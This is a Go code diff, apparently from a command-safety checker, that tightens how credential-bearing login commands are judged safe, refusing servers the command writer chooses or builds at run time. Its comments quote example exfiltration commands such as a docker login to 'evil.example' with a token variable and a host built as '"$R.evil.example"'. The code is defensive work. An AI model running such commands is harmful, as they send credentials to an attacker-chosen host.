@@ -360,14 +360,14 @@ func usesSafely(ctx *Context, in *Input, c *Command, name string) bool {
 		}
 		for _, o := range in.Commands {
 			for _, f := range o.Feeds {
-				if s, p, ok := loginFromEnv(o, name); f == c && ok && p.hasAny(s.extra().secretStdin) {
+				if s, p, ok := loginFromEnv(in, o, name); f == c && ok && p.hasAny(s.extra().secretStdin) {
 					return true
 				}
 			}
 		}
 		return false
 	}
-	s, p, ok := loginFromEnv(c, name)
+	s, p, ok := loginFromEnv(in, c, name)
 	if !ok || fed > 0 && !p.hasAny(s.extra().secretStdin) {
 		return false
 	}
@@ -521,7 +521,7 @@ func psLoginInput(in *Input, c *Command, name string) bool {
 	}
 	for _, o := range in.Commands {
 		if slices.Contains(o.Feeds, c) && len(o.Wrappers) == 0 {
-			s, p, ok := loginFromEnv(o, name)
+			s, p, ok := loginFromEnv(in, o, name)
 			return ok && p.hasAny(s.extra().secretStdin) && len(o.Feeds) == 1
 		}
 	}
@@ -535,24 +535,84 @@ func psLoginInput(in *Input, c *Command, name string) bool {
 // destination the command's writer did not choose. Any other server
 // written out (docker login evil.example -p "$T") sends the credential
 // where the writer says, and stays refused.
-func loginFromEnv(c *Command, name string) (*spec, parsed, bool) {
+func loginFromEnv(in *Input, c *Command, name string) (*spec, parsed, bool) {
 	s, rest := lookupSpec(c)
 	if s == nil || len(s.extra().secret)+len(s.extra().secretStdin) == 0 {
 		return nil, parsed{}, false
 	}
 	p := parseArgs(s, rest)
-	_, domains := credService(name)
-	for _, a := range p.operands {
-		if a.Literal && !serviceHost(a.Value, domains) {
-			return nil, parsed{}, false
-		}
-	}
-	for _, v := range p.values("--hostname", "-h") {
-		if !strings.HasPrefix(v, "$") {
-			return nil, parsed{}, false
-		}
+	if chosenServer(in, c, p, name) != "" {
+		return nil, parsed{}, false
 	}
 	return s, p, true
+}
+
+// chosenServer returns the server a login c, parsed as p, sends the
+// credential name to when the command's writer chose it: an operand or
+// a --hostname written out that is no host of the service the name is
+// for (credService), or one made by the input at run time (a command's
+// output, "$(cat host.txt)", a variable the input sets or loops over,
+// literal text around a variable: "$R.evil.example"). A server from the
+// environment the input runs in ("$CI_REGISTRY") is the user's choice.
+// "" when none.
+func chosenServer(in *Input, c *Command, p parsed, name string) string {
+	_, domains := credService(name)
+	chosen := func(w Word) bool {
+		if w.Literal {
+			return !serviceHost(w.Value, domains)
+		}
+		return !envOnlyWord(in, c.Grammar, w.Value)
+	}
+	for _, a := range p.operands {
+		if chosen(a) {
+			return a.Value
+		}
+	}
+	for _, o := range p.opts {
+		if (o.name == "--hostname" || o.name == "-h") && chosen(Word{Value: o.value, Literal: !strings.ContainsAny(o.value, "$%`")}) {
+			return o.value
+		}
+	}
+	return ""
+}
+
+// envOnlyWord reports whether v, a word after quote removal, is made
+// only of expansions of variables ($NAME, ${NAME}; PowerShell's
+// $env:NAME, ${env:NAME}; cmd's %NAME%) that the input neither sets nor
+// loops over: a value the environment it runs in gives.
+func envOnlyWord(in *Input, g lexer.Grammar, v string) bool {
+	if v == "" {
+		return false
+	}
+	for v != "" {
+		name, rest, fold, ok := leadingVar(v)
+		// PowerShell's variables but $env:NAME are the input's own;
+		// cmd expands only %NAME%; a posix shell's $env:X is $env.
+		if !ok || !isName([]byte(name)) || fold == g.IsPosix() || g == lexer.Cmd && v[0] != '%' {
+			return false
+		}
+		v = rest
+		// The name as setVars keeps it: cmd's %NAME% in upper case,
+		// PowerShell's $env:NAME in any case.
+		key := name
+		switch g {
+		case lexer.Cmd:
+			key = cmdVarKey(name)
+		case lexer.PowerShell:
+			key = "$env:" + name
+		}
+		if in.loops(key) {
+			return false
+		}
+		if in != nil {
+			for k := range in.setVars {
+				if k == key || g == lexer.PowerShell && strings.EqualFold(k, key) {
+					return false
+				}
+			}
+		}
+	}
+	return true
 }
 
 // loginReadsFile reports whether o, run by no wrapper, is a login that
@@ -565,7 +625,7 @@ func loginFromEnv(c *Command, name string) (*spec, parsed, bool) {
 // from the environment or be a host of the service the file's name says
 // (loginFromEnv: acr_token to *.azurecr.io): a server written out sends
 // the file where the writer chose.
-func loginReadsFile(o *Command, p string) bool {
+func loginReadsFile(in *Input, o *Command, p string) bool {
 	if len(o.Wrappers) > 0 || credPathRule(p) != "cred.cloud-file" || !readsSecretStdin(o) {
 		return false
 	}
@@ -578,7 +638,7 @@ func loginReadsFile(o *Command, p string) bool {
 	if !one {
 		return false
 	}
-	_, _, ok := loginFromEnv(o, strings.NewReplacer("-", "_", ".", "_").Replace(strings.TrimLeft(base, "._-")))
+	_, _, ok := loginFromEnv(in, o, strings.NewReplacer("-", "_", ".", "_").Replace(strings.TrimLeft(base, "._-")))
 	return ok
 }
 
@@ -594,7 +654,7 @@ func fileLoggedIn(ctx *Context, c *Command, p string) bool {
 		return false
 	}
 	login := soleReader(ctx.Input, c)
-	return login != nil && len(login.Feeds) == 1 && loginReadsFile(login, p)
+	return login != nil && len(login.Feeds) == 1 && loginReadsFile(ctx.Input, login, p)
 }
 
 // soleReader returns the one command of in that c feeds directly, or nil
